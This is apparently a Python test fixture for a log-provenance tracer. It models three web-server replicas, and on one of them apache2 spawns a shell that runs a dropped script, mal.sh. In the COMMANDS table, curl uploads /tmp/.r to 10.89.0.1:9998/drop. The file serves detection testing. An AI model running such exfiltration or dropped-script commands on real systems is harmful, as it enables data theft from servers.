"""A web application under attack, as its model has it: what `winnower trace-log` is asked about.

Rules of this file
    - Three replicas serve `GET /app.php?a=link 302`, each request with its database. One of them has served it in an
      epoch of its own, later, and there it has started a shell that has fetched and sent something.
    - Times are epochs of ten seconds; a request's states carry the request's history in their context.
"""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

from grammar import Delta, Evidence, Model, Replica, Sighting, Span, State, Transition
from monitor.application import Application
from monitor.store import Store

EPOCH = 10_000
BEGIN = 1_795_312_110_000
ATTACK = BEGIN + 13 * EPOCH
REPLICAS = [Replica(f"worker{n}", f"lamp{n}") for n in (1, 2, 3)]
LINK = "GET /app.php?a=link 302"
ACCESS = b'10.89.0.1 - - [22/Nov/2026:01:50:46 +0000] "GET /app.php?a=link HTTP/1.1" 302 313 "-" "Python-urllib/3.11"\n'
"""Written in the epoch of the attack."""

TOP = State("Process sh /usr/bin/dash")
MAIN = State("Process apache2 /usr/sbin/apache2", ("from sh",))
CLIENT = State("Socket 10.89.0.1:{port}>*:80")
PAGE = State("File /var/www/html/app.php")
CP = State("Process cp /usr/bin/cp", ("from sh",))
SCRIPT = State("File /var/www/html/mal.sh")
CODE = State("File /usr/lib/apache2/modules/libphp.so")

UNIT = State(MAIN.label, ("from sh", f"unit {CLIENT.label}", "#00000001"))
WRITER = State(MAIN.label, ("from sh", f"unit {CLIENT.label}", "#00000002"))
"""The unit after it has heard of the database: the version that writes the line."""
BASE = State("Socket 10.89.0.30:3306", ("#00000001",))
HARMLESS = State(f"LogMessage {LINK}", ("#00000002",))
ATTACKED = State(f"LogMessage {LINK}", ("started sh", "#00000002"))
LOGIN = State("LogMessage portal: user {token:11} logged in from {ip}", ("#00000002",))
FORKED = State(MAIN.label, ("from apache2",))
SHELL = State(TOP.label, ("from apache2", "#00000003"))
SHELL_LATER = State(TOP.label, ("from apache2", "#00000004"))
CURL = State("Process curl /usr/bin/curl", ("from sh",))
DROP = State("File /tmp/.r", ("#00000004",))
PEER = State("Socket 10.89.0.1:9998", ("#00000005",))

USUAL = (
    Transition(MAIN, "WAS_TRIGGERED_BY", "execve", TOP),
    Transition(CP, "WAS_TRIGGERED_BY", "fork", TOP),
    Transition(PAGE, "WAS_GENERATED_BY", "write", CP),
    Transition(MAIN, "USED", "read", CODE),
    Transition(UNIT, "WAS_TRIGGERED_BY", "unit", MAIN),
    Transition(UNIT, "USED", "accept", CLIENT),
    Transition(UNIT, "USED", "read", PAGE),
    Transition(BASE, "WAS_GENERATED_BY", "connect", UNIT),
    Transition(WRITER, "WAS_TRIGGERED_BY", "version", UNIT),
    Transition(WRITER, "USED", "recv", State(BASE.label)),
    Transition(HARMLESS, "WAS_GENERATED_BY", "log", WRITER),
    Transition(HARMLESS, "WAS_DERIVED_FROM", "covers", BASE),
    Transition(LOGIN, "WAS_GENERATED_BY", "log_near", WRITER),
    Transition(LOGIN, "WAS_DERIVED_FROM", "covers", BASE),
)
ODD = (
    Transition(FORKED, "WAS_TRIGGERED_BY", "fork", UNIT),
    Transition(SHELL, "WAS_TRIGGERED_BY", "execve", FORKED),
    Transition(SHELL, "USED", "read", SCRIPT),
    Transition(CURL, "WAS_TRIGGERED_BY", "execve", SHELL),
    Transition(CURL, "USED", "read", State("File /usr/lib/libcurl.so")),
    Transition(DROP, "WAS_GENERATED_BY", "create", SHELL),
    Transition(CURL, "USED", "read", DROP),
    Transition(PEER, "WAS_GENERATED_BY", "connect", CURL),
    Transition(SHELL_LATER, "WAS_TRIGGERED_BY", "version", SHELL),
    Transition(ATTACKED, "WAS_GENERATED_BY", "log", WRITER),
    Transition(ATTACKED, "WAS_GENERATED_BY", "covers", SHELL_LATER),
    Transition(ATTACKED, "WAS_DERIVED_FROM", "covers", BASE),
)
COMMANDS = {
    SHELL: "sh -c /bin/sh /var/www/html/mal.sh",
    CURL: "curl -s -T /tmp/.r http://10.89.0.1:9998/drop",
    ATTACKED: "apache2 ap_log_mpm_common 0x3a1b2 [notice]",
}


def evidence_of(transitions: Iterable[Transition], replica: Replica, first: int, last: int) -> Evidence:
    found = Evidence()
    for one in transitions:
        found.add(one, replica, Span(first, last))
    return found


def attacked(app: str = "portal") -> Model:
    """The model: everybody does what is usual for two minutes, then worker2 is attacked."""
    evidence = Evidence()
    for replica in REPLICAS:
        evidence.update(evidence_of(USUAL, replica, BEGIN, BEGIN + 12 * EPOCH))
    evidence.update(evidence_of(ODD, REPLICAS[1], ATTACK, ATTACK))
    for state, command in COMMANDS.items():
        evidence.command(state, command)
    return Model.of(app, evidence)


def stored(folder: Path, extra: Iterable[Transition] = ()) -> Path:
    """The same as a monitor's state."""
    store, app = Store(folder, create=True, live=True), Application("portal")
    with store.transaction():
        for replica in REPLICAS:
            _take(app, store, replica, (*USUAL, *extra), BEGIN)
            _take(app, store, replica, USUAL, BEGIN + 12 * EPOCH)
        _take(app, store, REPLICAS[1], ODD, ATTACK)
        store.add_lost("worker2", "unfinished", 7)
    store.close()
    return folder


def _take(app: Application, store: Store, replica: Replica, shown: Iterable[Transition], when: int) -> None:
    transitions = tuple(dict.fromkeys(shown))
    ends = {end for one in transitions for end in (one.effect, one.cause)}
    commands = {state: command for state, command in COMMANDS.items() if state in ends}
    app.take(Delta((Sighting(replica.container, transitions),), commands), replica.worker, Span(when, when), store)
